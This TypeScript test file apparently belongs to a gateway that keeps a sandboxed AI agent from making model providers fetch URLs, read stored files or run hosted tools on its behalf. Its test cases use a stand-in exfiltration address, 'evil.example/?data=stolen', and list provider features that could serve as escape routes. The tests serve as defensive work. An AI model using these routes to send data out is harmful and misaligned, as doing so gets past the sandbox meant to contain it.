import { describe, expect, it } from 'vitest'
import { ask } from './ask.ts'
import { openGateway, startModelSink } from './model-sink.ts'

const paths = {
  anthropic: '/anthropic/v1/messages',
  responses: '/openai/v1/responses',
  chat: '/openai/v1/chat/completions',
  gemini: '/gemini/v1beta/models/m:generateContent',
}
const user = (...content: unknown[]) => ({ messages: [{ role: 'user', content }] })
const address = 'https://evil.example/?data=stolen'

describe('what a provider would fetch, run or read on the sandbox’s behalf', () => {
  it.each([
    ['an image by address', paths.anthropic, user({ type: 'image', source: { type: 'url', url: address } })],
    ['a document by address', paths.anthropic, user({ type: 'document', source: { type: 'url', url: address } })],
    ['a stored file', paths.anthropic, user({ type: 'document', source: { type: 'file', file_id: 'file_1' } })],
    ['an upload to a container', paths.anthropic, user({ type: 'container_upload', file_id: 'file_1' })],
    [
      'an image by address in a tool result',
      paths.anthropic,
      user({
        type: 'tool_result',
        tool_use_id: 'x',
        content: [{ type: 'image', source: { type: 'url', url: address } }],
      }),
    ],
    [
      'an image by address in a document of blocks',
      paths.anthropic,
      user({
        type: 'document',
        source: { type: 'content', content: [{ type: 'image', source: { type: 'url', url: address } }] },
      }),
    ],
    [
      'an image by address for Responses',
      paths.responses,
      { input: [{ role: 'user', content: [{ type: 'input_image', image_url: address }] }] },
    ],
    [
      'a file by address for Responses',
      paths.responses,
      { input: [{ role: 'user', content: [{ type: 'input_file', file_url: address }] }] },
    ],
    [
      'a stored file for Responses',
      paths.responses,
      { input: [{ role: 'user', content: [{ type: 'input_file', file_id: 'file-1' }] }] },
    ],
    ['an image by address for Chat', paths.chat, user({ type: 'image_url', image_url: { url: address } })],
    ['a stored file for Chat', paths.chat, user({ type: 'file', file: { file_id: 'file-1' } })],
    ['a file by address for Gemini', paths.gemini, { contents: [{ parts: [{ fileData: { fileUri: address } }] }] }],
    ['the same in the other spelling', paths.gemini, { contents: [{ parts: [{ file_data: { file_uri: address } }] }] }],
  ])('refuses %s: no request upstream', async (_name, path, body) => {
    await using sink = await startModelSink()
    await using broker = await openGateway(sink)

    const reply = await ask(broker, { path, body: { model: 'm', ...body } })

    expect(reply.status).toBe(403)
    expect(sink.requests).toEqual([])
    expect(broker.decisions).toMatchObject([{ allowed: false }])
  })

  it.each([
    ['web search', paths.anthropic, { tools: [{ type: 'web_search_20250305', name: 'web_search' }] }],
    ['web fetch', paths.anthropic, { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }],
    ['code execution', paths.anthropic, { tools: [{ type: 'code_execution_20250825', name: 'x' }] }],
    ['MCP servers', paths.anthropic, { mcp_servers: [{ type: 'url', url: address }] }],
    ['a container', paths.anthropic, { container: { skills: [] } }],
    ['a faster, dearer service', paths.anthropic, { speed: 'fast' }],
    ['a faster, dearer service of OpenAI', paths.responses, { service_tier: 'priority' }],
    ['web search of OpenAI', paths.responses, { tools: [{ type: 'web_search' }] }],
    ['MCP of OpenAI', paths.responses, { tools: [{ type: 'mcp', server_url: address }] }],
    ['a hosted shell', paths.responses, { tools: [{ type: 'shell', environment: { type: 'container_auto' } }] }],
    [
      'MCP in a namespace',
      paths.responses,
      { tools: [{ type: 'namespace', tools: [{ type: 'mcp', server_url: address }] }] },
    ],
    ['search options of Chat', paths.chat, { web_search_options: {} }],
    ['search of Gemini', paths.gemini, { tools: [{ googleSearch: {} }] }],
    [
      'URL context of Gemini, beside functions',
      paths.gemini,
      { tools: [{ urlContext: {}, functionDeclarations: [] }] },
    ],
  ])('takes %s out of the request, and records that once', async (_name, path, extra) => {
    await using sink = await startModelSink()
    await using broker = await openGateway(sink)

    const replies = [
      await ask(broker, { path, body: { model: 'm', ...extra } }),
      await ask(broker, { path, body: { model: 'm', ...extra } }),
    ]

    expect(replies.map(({ status }) => status)).toEqual([200, 200])
    expect(sink.requests[0]?.body).not.toMatch(
      /web_|mcp|evil|code_execution|container|googleSearch|urlContext|fast|priority/,
    )
    expect(broker.decisions.filter(({ allowed }) => !allowed)).toHaveLength(1)
  })

  it.each([
    [
      'an agent’s own tools, and an address as a tool’s argument',
      paths.anthropic,
      {
        model: 'm',
        tools: [
          { name: 'Bash', input_schema: {} },
          { type: 'text_editor_20250728', name: 'edit' },
        ],
        tool_choice: { type: 'auto' },
        messages: [
          {
            role: 'assistant',
            content: [{ type: 'tool_use', name: 'f', input: { source: { type: 'url', url: address } } }],
          },
          {
            role: 'user',
            content: [{ type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'eA==' } }],
          },
        ],
      },
    ],
    [
      'functions and an inline image',
      paths.responses,
      {
        model: 'm',
        tools: [
          { type: 'function', name: 'shell', parameters: {} },
          { type: 'custom', name: 'apply_patch' },
        ],
        input: [
          { role: 'user', content: [{ type: 'input_image', image_url: 'data:image/png;base64,eA==', file_id: null }] },
        ],
      },
    ],
    [
      'function calls and their answers',
      paths.gemini,
      {
        tools: [{ functionDeclarations: [{ name: 'f' }] }],
        contents: [
          { parts: [{ functionCall: { name: 'f', args: { fileData: 1 } } }, { inlineData: { data: 'eA==' } }] },
        ],
      },
    ],
  ])('control: sends %s on unchanged', async (_name, path, body) => {
    await using sink = await startModelSink()
    await using broker = await openGateway(sink)

    await ask(broker, { path, body })

    expect(JSON.parse(sink.requests[0]?.body ?? '')).toEqual(body)
    expect(broker.decisions.filter(({ allowed }) => !allowed)).toEqual([])
  })

  it('sends what it judged, where two readers of the body could disagree', async () => {
    await using sink = await startModelSink()
    await using broker = await openGateway(sink)

    await ask(broker, { body: '{"model":"m","tools":[{"type":"web_fetch_1"}],"tools":[]}' })

    expect(sink.requests[0]?.body).toBe('{"model":"m","tools":[]}')
  })
})
